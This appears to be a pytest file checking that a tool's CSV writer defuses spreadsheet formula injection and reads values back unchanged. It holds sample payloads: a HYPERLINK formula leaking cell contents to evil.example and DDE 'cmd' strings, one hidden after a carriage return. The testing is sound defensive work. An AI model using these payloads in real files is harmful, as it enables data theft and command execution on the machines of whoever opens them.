"""Spreadsheet formulas and line breaks in the CSV files graphring writes, and reading them back (issues 18, 19.2)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from graphring.files.safecsv import TRIGGERS, defuse, defuse_frame, read_csv, restore, write_csv

#: The payloads of issue 18: a live link that sends the sheet's contents out.
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
#: A second borrower id (held out as a new record for screening).
LINK2 = '@HYPERLINK("http://evil.example/?b="&A1,"查看")'
#: Issue 19.2: a carriage return, then a DDE formula on what a \r-splitting reader sees as the next row.
CR_TEXT = "我要投诉催收\r=cmd|' /C calc'!A0"
_NUM = re.compile(r"[+-]?\d[\d., ]*")


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in TRIGGERS and not _NUM.fullmatch(cell)


def _check_csv(path: Path) -> dict:
    """Every cell as a CSV reader sees it, and every line as a reader splitting at \\r or \\n sees it."""
    raw = path.read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    bad_cells = [c for c in cells if _dangerous(c)]
    bad_lines = []
    for line in re.split(r"\r\n|\r|\n", raw):
        first = line.lstrip('"')
        if first and first[0] in "=+-@\t" and not _NUM.fullmatch(next(csv.reader([line]), [""])[0] or ""):
            bad_lines.append(line)
    return {"cells": len(cells), "bad_cells": bad_cells, "bad_lines": bad_lines}


# --------------------------------------------------------------------------------------- the rule

@pytest.mark.parametrize("value,written", [
    (LINK, "'" + LINK), ("+SUM(1)", "'+SUM(1)"), ("-2+3", "'-2+3"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("-12.5", "-12.5"), ("+8613800000000", "+8613800000000"), ("1,234.50", "1,234.50"),
    ("'=x", "''=x"), ("'plain", "'plain"), ("a\n=b", "a\n'=b"), ("a\r\n@b", "a\r\n'@b"), (CR_TEXT, CR_TEXT.replace("\r=", "\r'=")),
    ("张三", "张三"), ("", ""),
])
def test_owasp_rule_and_its_exact_inverse(value, written):
    assert defuse(value) == written
    assert restore(written) == value


def test_numbers_stay_numbers_and_columns_of_numbers_are_untouched(tmp_path):
    df = pd.DataFrame({"score": [-0.5, 0.25], "row": pd.array([-3, None], dtype="Int64"),
                       "amount": ["-1,234.50", "-12"], "id": ["-x", "=1"]})
    p = write_csv(df, tmp_path / "n.csv")
    back = pd.read_csv(p)
    assert back["score"].tolist() == [-0.5, 0.25] and back["row"].iloc[0] == -3
    assert back["amount"].tolist() == ["-1,234.50", "-12"]
    assert back["id"].tolist() == ["'-x", "'=1"]
    assert read_csv(p)["id"].tolist() == ["-x", "=1"]
    assert defuse_frame(df)["score"].tolist() == [-0.5, 0.25]


def test_carriage_return_is_quoted_and_every_line_start_defused(tmp_path):
    df = pd.DataFrame({"complaint": ["C1", "C2"], "text": [CR_TEXT, "正常\n-1+1"], "row": [2, 3]})
    p = write_csv(df, tmp_path / "complaints.csv", bom=True)
    raw = p.read_bytes().decode("utf-8-sig")
    assert '"我要投诉催收\r\'=cmd' in raw            # quoted, and the second line starts with '
    # a reader that treats a bare \r as a row end sees no line starting with a formula
    assert _check_csv(p)["bad_lines"] == [] and _check_csv(p)["bad_cells"] == []
    # Python's csv module with \n row ends would have left the \r unquoted (the bug of 19.2)
    s = io.StringIO()
    csv.writer(s, lineterminator="\n").writerow([CR_TEXT])
    assert not s.getvalue().startswith('"')
    assert read_csv(p)["text"].tolist() == [CR_TEXT, "正常\n-1+1"]
    assert read_csv(p)["row"].tolist() == ["2", "3"]


def test_header_cells_are_defused_too(tmp_path):
    p = write_csv(pd.DataFrame({"=evil": ["x"]}), tmp_path / "h.csv")
    assert p.read_text().startswith("'=evil")
    assert list(read_csv(p).columns) == ["=evil"]


def test_output_rule_is_documented():
    root = Path(__file__).resolve().parents[2]
    doc = (root / "docs" / "output_csv.md").read_text(encoding="utf-8")
    for needle in ("=", "+", "-", "@", "tab", "carriage return", "'", "quoted", "read_run", "watchlist"):
        assert needle in doc, needle
    assert "docs/output_csv.md" in (root / "README.md").read_text(encoding="utf-8")


# --------------------------------------------------------------------------------------- the real pipeline

@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """A generated folder whose planted ring carries LINK as a borrower id and as its complaints' agent."""
    from graphring.pipeline import find_rings, write_run
    from graphring.sample import generate
    from graphring.watch.screen import split_folder

    d = tmp_path_factory.mktemp("formulas")
    generate(d / "data", 600, seed=1)
    truth = pd.read_csv(d / "truth.csv", dtype=str, keep_default_na=False)
    comp = pd.read_csv(d / "data" / "complaints.csv", dtype=str, keep_default_na=False)
    planted = truth[~truth["ring_id"].str.startswith("BENIGN") & (truth["kind"] == "borrower")]
    ring = next(sorted(g["id"]) for _, g in planted.groupby("ring_id", sort=True)
                if comp["borrower_id"].isin(set(g["id"])).sum() >= 4)
    with_c = sorted(set(comp.loc[comp["borrower_id"].isin(ring), "borrower_id"]))
    renamed = {with_c[0]: LINK, with_c[1]: LINK2}
    for p in sorted((d / "data").glob("*.csv")):
        t = pd.read_csv(p, dtype=str, keep_default_na=False)
        t = t.replace(renamed)
        if p.stem == "complaints":
            m = t["borrower_id"].isin(set(ring) | {LINK, LINK2})
            t.loc[m, "agent"] = LINK
            t.loc[t.index[t["borrower_id"] == LINK][0], "text"] = CR_TEXT
        t.to_csv(p, index=False, quoting=csv.QUOTE_ALL)  # the \r inside a value quoted
    truth["id"] = truth["id"].replace(renamed)
    truth.to_csv(d / "truth.csv", index=False)
    # a borrower with a formula as resident ID: blanked, and problems.csv carries the value
    bor = pd.read_csv(d / "data" / "borrowers.csv", dtype=str, keep_default_na=False)
    bor = pd.concat([bor, pd.DataFrame([{"borrower_id": "C99999999", "id_number": "+cmd|' /C calc'!A0"}])])
    bor.fillna("").to_csv(d / "data" / "borrowers.csv", index=False, quoting=csv.QUOTE_ALL)
    split_folder(d / "data", [LINK2], d / "old", d / "new")
    res = find_rings(d / "old", seed=0)
    write_run(res, d / "run", data_dir=d / "old")
    return {"dir": d, "run": d / "run", "res": res, "new": d / "new", "truth": d / "truth.csv"}


def _all_csvs(root: Path) -> list[Path]:
    """The CSVs graphring wrote under ``root`` (not the input folders, nor the truth the test wrote)."""
    return sorted(p for p in root.rglob("*.csv")
                  if not {"data", "old", "new"} & set(p.relative_to(root).parts) and p.name != "truth.csv")


def test_every_csv_the_pipeline_writes_is_defused_and_read_back_as_it_was(planted, tmp_path):
    from graphring.analyse.evaluate import evaluate, load_truth
    from graphring.present.referral import write_referral
    from graphring.run import read_run
    from graphring.watch.screen import screen, write_screen
    from graphring.watch.watchlist import export_watchlist, read_watchlist, write_watchlist

    d, run = planted["dir"], planted["run"]
    members = planted["res"].members_table()
    assert LINK in set(members["id"])                          # the payload reached the run as a borrower id
    assert (members["id"].str.contains("evil.example", regex=False)).sum() >= 2   # and as an agent
    raw_members = (run / "ring_members.csv").read_text(encoding="utf-8")
    assert "\n" + LINK not in raw_members and "'" + LINK.replace('"', '""') in raw_members

    # graphring's own readers see the original values
    back = read_run(run).members
    assert sorted(back["id"]) == sorted(members["id"].astype(str))
    assert back["score"].str.startswith("'").sum() == 0
    ring_id = back.loc[back["id"] == LINK, "ring_id"].iloc[0]

    wl_raw = write_watchlist(export_watchlist(run, reveal=True), d / "wl_raw.csv")
    assert "evil.example" in wl_raw.read_text(encoding="utf-8")
    listed = read_watchlist(wl_raw)
    agents = listed.loc[listed["kind"] == "agent", "value"].tolist()
    assert agents and all(a.startswith("=HYPERLINK") for a in agents if "evil" in a)

    scr = screen(planted["new"], run, watchlist=listed, min_score=0.0)
    write_screen(scr, d / "screen")
    alerts = read_csv(d / "screen" / "alerts.csv")
    assert LINK2 in set(alerts.astype(str).stack())            # the new borrower's id, as it was
    assert alerts["ring_id"].str.startswith("watchlist").any()  # the agent matched the list read back

    pack = write_referral(run, ring_id, d / "pack")
    assert pack["counts"]["members"] > 0
    comp = read_csv(d / "pack" / "complaints.csv")
    assert CR_TEXT in set(comp["text"]) or any("\r=cmd" in t for t in comp["text"])

    # evaluate through the files gives the figures of the run in memory
    truth = load_truth(planted["truth"])
    assert evaluate(back, truth) == evaluate(members.astype({"score": str}), truth)

    checked = {}
    for p in _all_csvs(d):
        r = _check_csv(p)
        assert r["bad_cells"] == [], (p.name, r["bad_cells"][:3])
        assert r["bad_lines"] == [], (p.name, r["bad_lines"][:3])
        checked[p.relative_to(d).as_posix()] = r["cells"]
    for name in ("run/ring_members.csv", "run/problems.csv", "wl_raw.csv", "screen/alerts.csv",
                 "screen/new_clusters.csv", "pack/members.csv", "pack/links.csv", "pack/evidence.csv",
                 "pack/complaints.csv", "pack/i2_entities.csv"):
        assert name in checked, name
    # the payloads are in the files (defused), not dropped
    text = {n: (d / n).read_bytes().decode("utf-8-sig") for n in checked}   # no newline translation
    assert "'+cmd" in text["run/problems.csv"]
    assert "'=HYPERLINK" in text["pack/complaints.csv"] or "'=HYPERLINK" in text["pack/members.csv"]
    assert "\r'=cmd" in text["pack/complaints.csv"]


def test_previous_run_keeps_the_original_ids(planted):
    from graphring.analyse.history import previous_rings

    rings, _ = previous_rings(planted["run"])
    assert any(LINK in b for b in rings.values())


def test_a_watchlist_table_in_a_folder_is_read_back_as_written(tmp_path):
    from graphring.watch.screen import read_new_data
    from graphring.ingest.validate import validate_folder
    from graphring.watch.watchlist import write_watchlist

    wl = pd.DataFrame({"kind": ["agent", "phone"], "value": [LINK, "+8613812345678"], "label": ["=x", "-1"],
                       "source": ["@bank", "bank"]})
    for name in ("new", "data"):
        d = tmp_path / name
        d.mkdir()
        write_watchlist(wl, d / "watchlist.csv")
        (d / "borrowers.csv").write_text("borrower_id\nB1\n", encoding="utf-8")
    assert "'" + LINK.replace('"', '""') in (tmp_path / "new" / "watchlist.csv").read_text(encoding="utf-8")
    for t in (read_new_data(tmp_path / "new").tables["watchlist"], validate_folder(tmp_path / "data").tables["watchlist"]):
        assert t["value"].iloc[0] == LINK and t["label"].tolist() == ["=x", "-1"] and t["source"].iloc[0] == "@bank"
